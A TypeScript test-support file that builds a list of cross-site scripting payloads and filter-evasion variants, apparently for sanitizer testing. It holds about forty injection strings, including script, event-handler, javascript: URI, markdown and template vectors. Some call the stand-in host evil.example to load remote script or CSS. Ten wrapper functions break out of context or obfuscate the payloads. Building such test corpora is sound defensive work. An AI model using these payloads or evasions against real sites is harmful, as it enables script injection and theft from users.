import { shareOf } from '../support/turn.ts';

/** Texts that become code wherever a page turns text into markup. */
const plainStrings: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()">click</a>',
  '<math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<input autofocus onfocus=pwned()>',
  '<style>@import "//evil.example";*{background:url(javascript:pwned())}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href="//evil.example/">',
  '<template><img src=x onerror=pwned()></template>',
  '"><script>pwned()</script>',
  "'-pwned()-'",
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'vbscript:pwned()',
  '[x](javascript:pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[<img src=x onerror=pwned()>](https://example.org/)',
  '![x](x" onerror="pwned())',
  '```html"><script>pwned()</script>\n<script>pwned()</script>\n```',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<!--<img src="--><img src=x onerror=pwned()//">',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
  '${pwned()}',
  '\u003cscript\u003epwned()\u003c/script\u003e',
];

/** The same texts, breaking out of whatever surrounds them or disguised to get past filters. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `--><!-- -->${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `\`\`\`\n${text}\n\`\`\``,
  (text) => `[${text}](${text})`,
  (text) => text.toUpperCase().replaceAll('PWNED', 'pwned'),
  (text) => text.replaceAll('<', '<\0').replaceAll('script', 'scr\nipt'),
  (text) => text.replaceAll(' ', '/').replaceAll('=', '\t=\n'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll(':', '&colon;'),
];

/** All of them in the long run; otherwise the plain ones and a share of the disguised ones. */
export const xssStrings: readonly string[] = [
  ...plainStrings,
  ...shareOf([...new Set(plainStrings.flatMap((text) => disguises.map((disguise) => disguise(text))))], 40),
];
